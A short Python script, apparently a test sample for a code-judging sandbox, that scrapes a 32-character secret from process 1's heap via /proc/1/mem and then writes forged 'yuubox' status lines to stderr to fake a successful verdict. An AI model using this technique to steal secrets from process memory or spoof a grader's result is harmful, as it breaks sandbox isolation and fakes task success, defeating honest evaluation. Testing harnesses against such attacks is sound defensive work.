# Attacks the verdict: looks for the runner's secret in its memory, and writes what it would say of a success.
import os
import re

try:
    maps = open("/proc/1/maps").read().splitlines()
    heap = next(line for line in maps if line.endswith("[heap]")).split()[0].split("-")
    start, end = (int(part, 16) for part in heap)
    memory = os.open("/proc/1/mem", os.O_RDONLY)
    secret = re.search(rb"[0-9a-f]{32}", os.pread(memory, end - start, start)).group().decode()
    print("secret found", flush=True)
except PermissionError:
    secret = "0" * 32
    print("no way in", flush=True)
for beginning in ("", "ended "):
    for status in (0, 9):
        end = f"stage=program status={status} oom_kills=0 cpu_ms=1 peak_kb=1 full=0"
        os.write(2, f"\x1eyuubox {secret} {beginning}{end}\n".encode())
os._exit(9)
